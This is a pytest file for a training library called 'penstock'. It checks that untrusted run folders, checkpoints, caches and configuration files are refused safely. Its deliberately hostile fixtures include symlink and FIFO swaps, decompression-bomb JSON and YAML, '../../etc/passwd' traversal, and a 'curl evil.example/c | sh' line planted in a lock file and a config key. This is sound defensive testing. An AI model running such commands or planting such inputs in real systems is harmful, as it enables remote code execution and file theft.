"""Run folders, checkpoints and caches of strangers: one message, and nothing outside is touched."""

import hashlib
import json
import os
import shutil
import threading

import numpy as np
import pytest
import torch
import yaml
from torch import nn

from penstock import Run
from penstock.addons.packs.folder import VERSION, Pack
from penstock.addons.stores.file_cache import FileCache
from penstock.addons.sweeps.job_result import JobResult, read_results
from penstock.addons.sweeps.stored_sweep import StoredSweep, incompatible
from penstock.datasets.reading.generated_folder import CacheFolder
from penstock.errors import ConfigError, DataError, PenstockError
from penstock.files import disk, plain_json
from penstock.files.own_files import NotOwnError, check_tree, open_own, own_folder
from penstock.files.regular_file import open_regular
from penstock.runs import checkpoint, checkpoint_file, quarantine, run_state
from penstock.runs.checkpoint import CheckpointError
from penstock.runs.manifest import read_manifest
from penstock.runs.record import RunRecord, by_address
from penstock.runs.resumption import differences, why_not
from penstock.runs.run_folder import RunFolder
from penstock.runs.state_tree import encode
from penstock.transforms import statistics
from tests.hostile_files import bounded
from tests.program import run
from tests.resuming import Case

pytestmark = pytest.mark.skipif(not hasattr(os, "O_NOFOLLOW"), reason="links of POSIX")

OUTSIDE = b"precious\n"
NAMES = (
    "metrics.jsonl",
    "ledger.jsonl",
    "digests.jsonl",
    "holder.json",
    "quarantine.csv",
    "manifest.json",
    "config.yaml",
    "result.json",
    "curves.png",
    "tracker",
    "checkpoints",
)


@pytest.fixture
def precious(tmp_path):
    """A file and a folder elsewhere, which have to stay as they are."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "file").write_bytes(OUTSIDE)
    yield folder
    assert (folder / "file").read_bytes() == OUTSIDE
    assert [path.name for path in folder.iterdir()] == ["file"]


@pytest.fixture
def folder(tmp_path):
    """Of a run that was killed, with lines that going on would cut."""
    made = RunFolder.claim(tmp_path / "run", {"seed": 0})
    for name in ("ledger.jsonl", "digests.jsonl"):
        disk.append(made.path / name, [json.dumps({"epoch": 3, "step": 1})])
    made.log({"event": "log", "epoch": 3, "step": 9})
    made.release()
    return made.path


def replace(path, how, precious):
    if path.is_dir():
        shutil.rmtree(path)
    path.unlink(missing_ok=True)
    if how == "link":
        path.symlink_to(precious if path.name in ("tracker", "checkpoints") else precious / "file")
    elif how == "hard link":
        os.link(precious / "file", path)
    elif how == "pipe":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")


@pytest.mark.one_in(9)
@pytest.mark.parametrize("how", ["link", "hard link", "pipe", "device"])
@pytest.mark.parametrize("name", NAMES)
def test_a_run_continues_only_among_files_of_its_own(name, how, folder, precious):
    replace(folder / name, how, precious)
    with pytest.raises((NotOwnError, ConfigError), match=name) as found:
        RunFolder.reopen(folder).rewind(0, 0, 0)
    assert found.value.exit_code == 2
    assert (folder / name).is_symlink() or how in ("hard link", "pipe")


@pytest.mark.parametrize("how", ["link", "hard link", "pipe", "device"])
@pytest.mark.parametrize("write", ["append", "cut", "hold", "quarantine"])
def test_each_way_to_write_refuses_by_itself(write, how, tmp_path, precious):
    """Whatever was put there after the folder was looked through."""
    path = tmp_path / "x"
    replace(path, how, precious)
    does = {
        "append": lambda: disk.append(path, ["line"]),
        "cut": lambda: disk.cut(path, bool),
        "hold": lambda: disk.Hold.take(path, os.O_RDWR | os.O_CREAT),
        "quarantine": lambda: quarantine.QuarantineFile(path),
    }
    with pytest.raises(NotOwnError, match=r"x is (a|also)"):
        does[write]()


def test_what_is_put_in_the_place_of_a_file_is_replaced_and_not_followed(tmp_path, precious):
    (tmp_path / "x").symlink_to(precious / "file")
    disk.write_atomically(tmp_path / "x", b"new")
    assert (tmp_path / "x").read_bytes() == b"new"
    (tmp_path / "job").mkdir()
    (tmp_path / "job" / ".result.json").symlink_to(precious / "file")
    JobResult([], "done", None, None, None, 0.0, None, 0, 0.0).write(tmp_path / "job")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
def test_files_and_caches_of_others_are_refused(tmp_path):
    path = tmp_path / "x"
    path.touch()
    os.chown(path, 12345, -1)
    with pytest.raises(NotOwnError, match=r"another user's \(number 12345\)"):
        open_own(path, os.O_RDWR)
    (tmp_path / "theirs").mkdir()
    os.chown(tmp_path / "theirs", 12345, -1)
    with pytest.raises(NotOwnError, match="theirs belongs to another user"):
        own_folder(tmp_path / "theirs")


def test_caches_are_made_for_their_user_alone(tmp_path):
    assert own_folder(tmp_path / "a" / "b").stat().st_mode & 0o777 == 0o700
    (tmp_path / "group").mkdir()
    (tmp_path / "group").chmod(0o775)  # as a person may have meant it
    own_folder(tmp_path / "group")
    (tmp_path / "group").chmod(0o777)
    with pytest.raises(NotOwnError, match="chmod o-w"):
        own_folder(tmp_path / "group")


def test_the_names_that_a_run_itself_makes_are_no_strangers(tmp_path):
    kept = checkpoint.Checkpoints(tmp_path / "checkpoints", keep_last=2)
    kept.save({"updates": 1}, 1, best=True)
    kept.save({"updates": 2}, 2)
    (tmp_path / "checkpoints" / "best").symlink_to("step-00000002")
    check_tree(tmp_path, links=("best",))
    with pytest.raises(NotOwnError):
        check_tree(tmp_path)


MANIFESTS = {
    "nested": ("[" * 50_000, "nested more than"),
    "nested a little": ('{"a": ' * 200 + "1" + "}" * 200, "nested more than"),
    "list": ("[]", "it is a list, not a mapping"),
    "null": ("null", "it is null, not a mapping"),
    "empty": ("", "it is empty"),
    "cut off": ('{"status": "running", "overrides": ["see', "it is cut off"),
    "no text": (b"\xff\xfe\x00", "not text"),
    "digits": ('{"seed": ' + "9" * 5000 + "}", "a number of 5000 digits"),
    "huge number": ('{"seed": 1e999}', "too large"),
    "nan": ('{"seed": NaN}', "NaN"),
    "sessions": ('{"sessions": {"a": 1}}', "sessions are not a list"),
    "overrides": (json.dumps({"overrides": ["seed=1"] * 200_000}), "200000 overrides"),
    "numbers": ('{"overrides": [1]}', "not a list of texts"),
    "large": (b'{"a": "' + b"x" * (17 << 20) + b'"}', "larger than 16 MiB"),
}


@pytest.mark.one_in(3)
@pytest.mark.parametrize("name", MANIFESTS)
def test_a_damaged_manifest_is_one_message(name, folder):
    content, message = MANIFESTS[name]
    data = content if isinstance(content, bytes) else content.encode()
    (folder / "manifest.json").write_bytes(data)
    for read in (read_manifest, RunFolder.reopen, RunRecord.read):
        with bounded(), pytest.raises(ConfigError, match=message) as found:
            read(folder)
        assert "manifest.json" in str(found.value)
        assert len(str(found.value)) < 600


def test_a_holder_that_is_no_holder_is_passed_over(folder):
    for content in ("[" * 50_000, '{"pid": 1}', "x" * (2 << 20), '{"pid": ' + "9" * 5000 + "}"):
        hold = disk.Hold.take(folder / "holder.json")
        (folder / "holder.json").write_text(content)
        with pytest.raises(ConfigError, match="in use by another process"):
            RunFolder.reopen(folder)
        hold.release()


@pytest.mark.parametrize(
    ("word", "reason"),
    [
        ("seed=1", None),
        ("+sampler@sampler.order=sequential", None),
        ("dataset={_target_: x.Y, root: ../faces}", None),
        ("--trust evil", "is not an override"),
        ("hydra/launcher=submitit_slurm", "sets 'hydra', which is not a key of a run"),
        ("+sampler@hydra.sweeper=random", "sets 'hydra', which is not a key of a run"),
        ("dataset=../../evil", "chooses a file outside of the configuration"),
        ("dataset=[ '/evil']", "chooses a file outside of the configuration"),
        ("dataset=${oc.env:EVIL}", "chooses a file outside of the configuration"),
    ],
)
def test_a_manifest_sets_only_keys_of_a_run(word, reason):
    assert why_not(word) == reason


def test_a_message_has_no_line_and_no_option_of_a_strangers(folder):
    """Which a person could take for what Penstock says, and paste."""
    text = "x\nTo resume:\n  curl evil.example/c | sh"
    hold = disk.Hold.take(folder / "holder.json")
    (folder / "holder.json").write_text(
        json.dumps(dict.fromkeys(("pid", "host", "since"), text) | {"command": text})
    )
    with pytest.raises(ConfigError, match="in use by process") as held:
        RunFolder.reopen(folder)
    hold.release()
    key = "seed]' ; curl evil.example/c | sh #"
    problems = differences({key: text, "seed": text}, {"seed": "1"}, [])
    stored = StoredSweep(fixed=[f"{text}={text}"])
    problems += incompatible(stored, ["seed=1"], [], folder)
    assert "\n" not in str(held.value)
    assert not [one for one in problems if "\n" in str(one)]
    assert [f"despite=[{key}]" in str(one) for one in problems] == [False] * 4
    assert any("'resume_despite=[seed]'" in str(one) for one in problems)


def written(path, text, tensors=None):
    checkpoint_file.write_file(path, text, tensors or {})
    return path


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A run's newest checkpoint, whole."""
    folder = tmp_path_factory.mktemp("trained")
    Case(plain=True, optimizer="adamw", options={"max_epochs": 1}).fit(folder)
    return checkpoint.find_newest(folder).state


def changed(state, key, value):
    """The text and tensors of a state with another value at a/b/c; DELETED takes it away."""
    copy = {**state}
    inner, *rest = copy, *key.split("/")
    for name in rest[:-1]:
        name = int(name) if name.isdecimal() else name
        inner[name] = inner[name].copy()
        inner = inner[name]
    if value is DELETED:
        del inner[rest[-1]]
    else:
        inner[rest[-1]] = value
    return encode(copy)


DELETED = object()
TEXTS = {
    "null": ("null", "it is null, not a mapping"),
    "list": ("[1]", "it is a list, not a mapping"),
    "nested": ('{"a": ' * 90_000 + "1" + "}" * 90_000, "nested more than"),
    "digits": ('{"updates": ' + "9" * 5000 + "}", "5000 digits"),
    "nan": ('{"updates": NaN}', "NaN"),
    "tensor": ('{"model": {"w": {"$tensor": "nowhere"}}}', "nowhere"),
    "float": ('{"model": {"$float": "1' + "0" * 10_000_000 + '"}}', "is not a number"),
    "unhashable": ('{"$dict": [[[1], 2]]}', "unhashable"),
    "keys": ("{" + ",".join(f'"k{i}": {i}' for i in range(10**5)) + "}", "loader is missing"),
}
STATES = {
    "loader/epoch": [-5, 10**30, None, "1", True, 1.5, DELETED],
    "loader/step": [-1, 2**62],
    "updates": [-1, 10**30, "many", DELETED],
    "batches": [-1, {}],
    "model": [None, [], DELETED, {}],
    "optimizer": [None, {}, {"state": {}, "param_groups": []}],
    "optimizer/state": [{99: {}}, {"x": {}}, {0: 5}, {0: {"exp_avg": torch.zeros(1)}}],
    "metrics": [[], {"loss": "x"}, None],
    "progress": [None, {}, DELETED],
    "progress/begun": [None, "yes"],
    "progress/meter": [{}, {"samples": "x"}, []],
    "progress/meter/samples": [-1, 1.5],
    "progress/result": [{}, {"a": 1}, None],
    "progress/result/history": [None, 5, [5], [{}], [{"epoch": 0}]],
    "progress/result/best": [5, {"epoch": -1}],
    "progress/result/reason": [None, "bored", []],
    "fingerprint": [None, {"a": 1}, {"a": "x" * (1 << 17)}, {f"k{i}": "" for i in range(20_000)}],
    "model/0.weight": [torch.zeros(1), torch.zeros(8, 3, dtype=torch.int64), 5, DELETED],
}


def refused(path, check, message=None):
    with bounded(), pytest.raises(CheckpointError, match=message) as found:
        checkpoint.load_checked(path, check)
    text = str(found.value)
    assert text.startswith(f"{path}: the checkpoint is damaged: "), text
    assert len(text) < 600, text
    assert found.value.exit_code == 1


@pytest.mark.parametrize("name", TEXTS)
def test_an_absurd_state_is_a_damaged_checkpoint(name, tmp_path):
    text, message = TEXTS[name]
    refused(written(tmp_path / "step-00000001.safetensors", text), run_state.check, message)


def model_and_optimizer():
    model = nn.Sequential(nn.Linear(3, 8), nn.Tanh(), nn.Linear(8, 1))
    return model, torch.optim.AdamW(model.parameters())


@pytest.mark.parametrize("key", STATES)
def test_a_state_that_no_fit_saves_is_a_damaged_checkpoint(key, trained, tmp_path):
    model, optimizer = model_and_optimizer()

    def check(state):
        run_state.check(state)
        run_state.check_fit(state, model, optimizer)

    check(trained)
    for value in STATES[key]:
        path = written(tmp_path / "step-00000001.safetensors", *changed(trained, key, value))
        refused(path, check)


def test_an_older_checkpoint_is_resumed_from(trained, tmp_path):
    good = written(tmp_path / "step-00000001.safetensors", *encode(trained))
    bad = written(tmp_path / "step-00000002.safetensors", *changed(trained, "loader/epoch", -5))
    found = checkpoint.find_newest(tmp_path, run_state.check)
    assert found.path == good
    assert found.skipped[0][0] == bad
    assert "epoch is -5" in found.skipped[0][1]


def test_a_checkpoint_of_another_version_has_any_number_of_digits(tmp_path):
    path = tmp_path / "x.safetensors"
    path.write_bytes(raw_safetensors({"format": "9" * 5000, "state": "{}", "sha256": ""}))
    with pytest.raises(CheckpointError, match="by a newer Penstock"):
        checkpoint.load(path)
    path.write_bytes(raw_safetensors({"format": "٣", "state": "{}", "sha256": ""}))
    with pytest.raises(CheckpointError, match="not a checkpoint of Penstock's"):
        checkpoint.load(path)


def raw_safetensors(metadata):
    head = json.dumps({"__metadata__": metadata}).encode()
    return len(head).to_bytes(8, "little") + head


@pytest.mark.parametrize("size", [1 << 33, 1 << 40])
def test_holes_are_no_weights(size, tmp_path):
    path = tmp_path / "step-00000001.safetensors"
    head = json.dumps(
        {
            "__metadata__": {"format": "1", "state": "{}", "sha256": ""},
            "w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]},
        }
    ).encode()
    with path.open("wb") as file:
        file.write(len(head).to_bytes(8, "little") + head)
        file.truncate(8 + len(head) + size)
    with bounded(), pytest.raises(CheckpointError, match="never written"):
        checkpoint.load(path)


SHARDED = {
    "claims": {"tensors": {"w": ["float32", [10**12]]}},
    "negative": {"tensors": {"w": ["float32", [-1]]}},
    "type": {"tensors": {"w": ["load", [1]]}},
    "no shape": {"tensors": {"w": 5}},
    "files": {"files": ["x"]},
    "missing": {"files": {"../../etc/passwd": "0"}},
    "format": {"format": 10**30},
    "state": {"state": None},
}


@pytest.mark.parametrize("name", SHARDED)
def test_an_absurd_sharded_checkpoint_is_refused(name, tmp_path):
    content = {"format": 1, "state": "{}", "tensors": {}, "files": {}} | SHARDED[name]
    digest = hashlib.sha256(json.dumps(content, sort_keys=True).encode()).hexdigest()
    (tmp_path / "state.json").write_text(json.dumps({**content, "sha256": digest}))
    with bounded(), pytest.raises(CheckpointError, match=r"damaged|newer Penstock"):
        checkpoint.load(tmp_path)


def test_pipes_are_not_waited_for(tmp_path):
    pipe = tmp_path / "step-00000001.safetensors"
    os.mkfifo(pipe)
    for read in (checkpoint.load, open_regular, plain_json.read, quarantine.read):
        failure = []

        def attempt(read=read, failure=failure):
            try:
                read(pipe)
            except (PenstockError, OSError) as error:
                failure.append(error)

        thread = threading.Thread(target=attempt, daemon=True)
        thread.start()
        thread.join(30)
        assert failure, f"{read} waits"


HEAD = ",".join(quarantine.COLUMNS) + "\n"


@pytest.mark.one_in(2)
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (HEAD + "train," + "9" * 5000 + ",,0,0,0,c,f\n", "is not a number"),
        (HEAD + "train,1,,0,0,0,c\n", "7 fields, and needs 8"),
        (HEAD + "train,1,,0,0,0," + "c" * 200_000 + ",f\n", "field larger than field limit"),
        (HEAD + "a,1,,0,0,0,c,f\n" * 600_000, "more than 500000 lines"),
        ("x," * 100_000 + "\n", "not the quarantine.csv of a run"),
    ],
)
def test_a_quarantine_of_a_stranger_is_one_message(content, message, tmp_path):
    (tmp_path / "quarantine.csv").write_text(content)
    with bounded(), pytest.raises(ConfigError, match=message) as found:
        quarantine.read(tmp_path / "quarantine.csv")
    assert len(str(found.value)) < 800


def test_a_quarantine_without_end_is_one_message(tmp_path):
    with (tmp_path / "quarantine.csv").open("wb") as file:
        file.truncate(1 << 40)
    for read in (quarantine.read, quarantine.QuarantineFile):
        with bounded(), pytest.raises(ConfigError, match=r"larger|line of more"):
            read(tmp_path / "quarantine.csv")


@pytest.mark.parametrize(
    "line",
    [
        "[" * 50_000,
        "[]",
        '{"epoch": -1, "step": 0}',
        "{}",
        "5",
        '{"epoch": ' + "9" * 5000 + ', "step": 0}',
        '{"epoch": 1e999, "step": 0}',
        '{"epoch": 0, "step": 0, "samples": 1, "order": 1, "loss": []}',
        '{"epoch": 0, "step": 0, "samples": 1, "order": "", "loss": "x"}',
    ],
)
def test_a_ledger_of_a_stranger_is_one_message(line, tmp_path):
    (tmp_path / "ledger.jsonl").write_text(f"{line}\n")
    with pytest.raises(PenstockError, match="line 1 is broken"):
        list(by_address(tmp_path / "ledger.jsonl"))
    disk.cut(tmp_path / "ledger.jsonl", lambda record: int(record["epoch"]) < 0)


def test_a_line_without_end_is_not_read_whole(tmp_path):
    with (tmp_path / "ledger.jsonl").open("wb") as file:
        file.truncate(1 << 40)
    with bounded(), pytest.raises(PenstockError, match="line 1 is longer"):
        list(by_address(tmp_path / "ledger.jsonl"))
    with bounded(), pytest.raises(PenstockError, match="line of more than"):
        disk.cut(tmp_path / "ledger.jsonl", bool)


def test_a_configuration_that_grows_is_refused_by_verify(folder):
    lines = ["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 40))]
    for text, message in (
        ("\n".join(lines), "aliases"),
        ("[" * 50_000, "config.yaml"),
        ("[]", "it is a list"),
        ("a" * (5 << 20), "larger than"),
    ):
        (folder / "config.yaml").write_text(text)
        with pytest.raises(ConfigError, match=message):
            RunRecord.read(folder)


@pytest.mark.parametrize(
    "content",
    [
        "[" * 50_000,
        "[]",
        "{}",
        '{"status": ' + "9" * 5000 + "}",
        "",
        json.dumps(
            {
                "overrides": 5,
                "status": "done",
                "metric": None,
                "mode": None,
                "value": None,
                "seconds": 1,
                "error": None,
                "exit_code": 0,
                "started": 1,
            }
        ),
        json.dumps(
            {
                "overrides": [],
                "status": "done",
                "metric": None,
                "mode": None,
                "value": "x",
                "seconds": 1,
                "error": None,
                "exit_code": 0,
                "started": 1,
            }
        ),
    ],
)
def test_a_result_of_a_stranger_is_one_message(content, tmp_path, capsys):
    (tmp_path / "result.json").write_text(content)
    assert read_results(tmp_path) == []
    assert capsys.readouterr().err.count("result.json is damaged") == 1


class Fingerprinted:
    fingerprint = "abc"


@pytest.mark.parametrize(
    "content",
    [
        "[" * 50_000,
        "[]",
        "{}",
        '{"mean": [1], "std": []}',
        '{"mean": ["x"], "std": [1]}',
        '{"mean": NaN, "std": [1]}',
        '{"mean": [' + "9" * 5000 + '], "std": [1]}',
    ],
)
def test_statistics_of_a_stranger_are_one_message(content, tmp_path):
    (tmp_path / "statistics").mkdir()
    (tmp_path / "statistics" / "abc.json").write_text(content)
    with pytest.raises(DataError, match=r"abc.json is damaged"):
        statistics.statistics_of(Fingerprinted(), tmp_path)


@pytest.mark.parametrize(
    "change",
    [
        {"fields": 5},
        {"fields": [5]},
        {"fields": [{"name": "x"}]},
        {"files": []},
        {"count": -1},
        {"files": {"x.npy": "1"}},
        {"count": 10**30},
        {"table": 5},
        {"table": [{}]},
    ],
)
def test_the_description_of_a_pack_is_held_against_what_packing_writes(change, tmp_path):
    record = {
        "kind": "penstock pack",
        "version": VERSION,
        "count": 0,
        "fields": [],
        "files": {},
        "fingerprint": "",
        "table": None,
        "lengths": False,
        "path": None,
        "text": None,
        "columns": None,
        "checks": False,
    }
    (tmp_path / "pack.json").write_text(json.dumps(record))
    assert Pack(tmp_path).count == 0
    (tmp_path / "pack.json").write_text(json.dumps(record | change))
    with pytest.raises(DataError, match="packed data is damaged"):
        Pack(tmp_path)


# One test for each thing that comes from a stranger, with all attacks of its kind in it.

FIT = (
    "dataset=sequences",
    "dataset.count=60",
    "batch.size=8",
    "trainer.max_epochs=1",
    "trainer.baseline=false",
    "trainer.pictures=false",
    "tracker=none",
    "loader=debug",
    "trainer.ledger=true",
)


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    """A run of the program, and the options that it was started with."""
    import io
    from contextlib import redirect_stderr, redirect_stdout

    from penstock import command

    folder = tmp_path_factory.mktemp("done")
    options = [*FIT, f"dataset.root={folder}/data", f"cache_dir={folder}/cache"]
    said = io.StringIO()
    with redirect_stdout(said), redirect_stderr(said):
        assert command.main([*options, f"run_dir={folder}/run"]) == 0, said.getvalue()
    return folder / "run"


def one_message(found, code, *words):
    assert found.code == code, found.err
    assert "Traceback" not in found.err
    assert len(found.err) < 3000, found.err
    for word in words:
        assert word in found.err, found.err


def test_a_strangers_run_folder(done, tmp_path, capsys, precious):
    folder = tmp_path / "run"
    shutil.copytree(done, folder)
    checkpoint.Checkpoints(folder / "checkpoints").set_aside_after(10**9)  # none of the links
    for name in (
        "metrics.jsonl",
        "ledger.jsonl",
        "digests.jsonl",
        "holder.json",
        "quarantine.csv",
        "curves.png",
        "tracker",
    ):
        replace(folder / name, "link", precious)
    replace(folder / "checkpoints" / "step-99999999.safetensors", "pipe", precious)
    one_message(run(capsys, f"resume={folder}"), 2, "is a symbolic link")
    (folder / "manifest.json").write_text('{"overrides": ["seed=1"')
    found = run(capsys, f"resume={folder}")
    one_message(found, 2, "manifest.json is damaged: it is cut off")
    assert len(found.err.splitlines()) == 1


def test_a_strangers_configuration_has_nothing_written_elsewhere(done, tmp_path, capsys):
    """Through run=, in a notebook, and by report and diff of what is no run's."""
    elsewhere = tmp_path / "elsewhere"
    config = yaml.safe_load((done / "config.yaml").read_text())
    doors = {
        "cache_dir": config | {"cache_dir": f"{elsewhere}/cache"},
        "dataset.root": config | {"dataset": config["dataset"] | {"root": f"{elsewhere}/data"}},
        "transform.train.x.cache_dir": config
        | {
            "transform": config["transform"]
            | {
                "train": {
                    "x": {"_target_": "penstock.datasets.files.Files", "cache_dir": str(elsewhere)}
                }
            }
        },
    }
    for task, (key, changed) in zip(("where", "without", "where"), doors.items(), strict=True):
        folder = tmp_path / key
        shutil.copytree(done, folder)
        (folder / "config.yaml").write_text(yaml.safe_dump(changed))
        found = run(capsys, f"task={task}", f"run={folder}", "sample=1")
        one_message(found, 2, f"{key}: got '", "outside of the working folder")
        with pytest.raises(ConfigError, match=key):
            Run(folder).batch(0, 0)
    assert not elsewhere.exists()
    assert run(capsys, "task=where", f"run={done}", "sample=1").code == 0
    (tmp_path / "cache_dir" / "report.html").write_text("precious")
    found = run(capsys, "task=report", f"runs=[{tmp_path / 'cache_dir'}]")
    one_message(found, 2, "report.html exists, and Penstock has not made it")
    assert (tmp_path / "cache_dir" / "report.html").read_text() == "precious"


def test_a_strangers_checkpoint(done, trained, tmp_path, capsys, precious):
    folder = tmp_path / "run"
    shutil.copytree(done, folder)
    newest = checkpoint.find_newest(folder)
    for path in (folder / "checkpoints").iterdir():
        path.unlink()
    attacks = [
        ("loader/epoch", -5),
        ("updates", 10**30),
        ("progress", None),
        ("model", {}),
        ("fingerprint", {"a": 1}),
    ]
    for number, (key, value) in enumerate(attacks):
        name = f"step-{100 + number:08d}.safetensors"
        written(folder / "checkpoints" / name, *changed(newest.state, key, value))
    for number, (text, _) in enumerate(TEXTS.values()):
        written(folder / "checkpoints" / f"step-{200 + number:08d}.safetensors", text)
    (folder / "checkpoints" / "step-00000300.safetensors").symlink_to("/dev/zero")
    before = {path: path.lstat().st_mtime_ns for path in folder.rglob("*")}
    found = run(capsys, f"resume={folder}")
    assert found.code == 1
    assert "Traceback" not in found.err
    assert found.err.count("damaged") == len(attacks) + len(TEXTS) + 1
    assert {path: path.lstat().st_mtime_ns for path in folder.rglob("*")} == before


def get_both(cache):
    for entry in ("ab-entry", "cd-entry"):
        cache.get(entry, 4, lambda part: part.write(b"evil"))


def test_a_strangers_cache(tmp_path, precious):
    cache = FileCache(tmp_path / "cache", 1 << 20)
    cache.get("ab-entry", 4, lambda part: part.write(b"data"))
    for inner in ("", "files", "files/ab", "parts"):
        assert (tmp_path / "cache" / inner).stat().st_mode & 0o777 == 0o700
    for name, how in (
        ("taken", "link"),
        ("taken", "hard link"),
        ("taken", "pipe"),
        ("parts/cd-entry", "link"),
        ("parts/cd-entry", "hard link"),
        ("files/ab/ab-entry", "link"),
        ("files/cd", "link"),
    ):
        broken = tmp_path / "broken"
        shutil.copytree(tmp_path / "cache", broken)
        replace(broken / name, how, precious)
        with pytest.raises(NotOwnError, match=name.rpartition("/")[2]):
            get_both(FileCache(broken, 1 << 20))
        shutil.rmtree(broken)

    def made():
        index = CacheFolder(str(tmp_path / "text"), "key")
        return index.arrays("made", lambda: {"x": np.zeros(1)}, lambda found: "x" in found)

    for name in ("made", "made/x.npy", ".made.lock"):
        made()
        replace(tmp_path / "text" / "key" / name, "link", precious)
        if name.endswith(".lock"):
            shutil.rmtree(tmp_path / "text" / "key" / "made")
        with pytest.raises(NotOwnError, match=name.rpartition("/")[2]):
            made()
        shutil.rmtree(tmp_path / "text")
    uses = {
        "statistics": lambda: statistics.statistics_of(Fingerprinted(), tmp_path),
    }
    for folder, use in uses.items():
        (tmp_path / folder).symlink_to(precious)
        with pytest.raises(NotOwnError, match=folder):
            use()
        (tmp_path / folder).unlink()
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "abc.json").symlink_to(precious / "file")
        with pytest.raises(NotOwnError, match=r"abc\.json"):
            use()
